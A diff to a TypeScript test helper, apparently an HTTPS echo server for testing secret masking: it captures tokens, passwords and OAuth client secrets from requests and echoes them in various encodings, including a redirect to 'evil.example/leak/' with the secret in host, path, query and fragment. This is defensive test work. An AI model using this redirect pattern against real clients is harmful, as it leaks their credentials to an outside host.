@@ -3,7 +3,8 @@
  * request it gets (Bearer token, Basic password, a named header, an OAuth client secret sent by
  * client_secret_basic or client_secret_post) and echoes them back in one chosen encoding: in a redirect's
  * Location (host, path, query and fragment), in headers and in the body. `/e/<i>/...` echoes with
- * encoding number i of the list the test gives, so one server serves a processor per encoding.
+ * encoding number i of the list the test gives, so one server serves a processor per encoding;
+ * `/e/all/...` puts every encoding into one Location.
  */
 import * as https from 'node:https';
 import type * as net from 'node:net';
@@ -36,6 +37,15 @@ function credentialOf(req: { headers: Record<string, string | string[] | undefin
   return new URLSearchParams(body).get('client_secret') ?? '';
 }
 
+/**
+ * Every encoding in one path, between `~~` segments (no base64 character, so a masked base64 form cannot
+ * reach into its neighbours); forms holding `#` last, as the URL parser ends the path there.
+ */
+function allInOne(forms: [string, string][]): string {
+  const encoded = forms.map(([, e]) => e);
+  return [...encoded.filter((e) => !e.includes('#')), ...encoded.filter((e) => e.includes('#'))].join('/~~/');
+}
+
 /** A host label made of the echo when it can be one, so the URL parser keeps it (lower-cased). */
 function hostLabel(encoded: string): string {
   return /^[A-Za-z0-9_-]{1,63}$/.test(encoded) ? `${encoded}.` : '';
@@ -60,8 +70,9 @@ export async function startEchoServer(
       const body = Buffer.concat(chunks).toString('utf8');
       const secret = credentialOf(req, body);
       received.push(secret);
-      const i = Number(/^\/e\/(\d+)\//.exec(req.url ?? '')?.[1] ?? 0);
-      const encoded = encodings(secret)[i]?.[1] ?? secret;
+      const which = /^\/e\/(\d+|all)\//.exec(req.url ?? '')?.[1] ?? '0';
+      const encoded =
+        which === 'all' ? allInOne(encodings(secret)) : (encodings(secret)[Number(which)]?.[1] ?? secret);
       const location = `https://${hostLabel(encoded)}evil.example/leak/${encoded}?q=${encoded}#${encoded}`;
       const safe = headerSafe(encoded);
       const text = JSON.stringify({ error: encoded, error_description: encoded, echo: body });
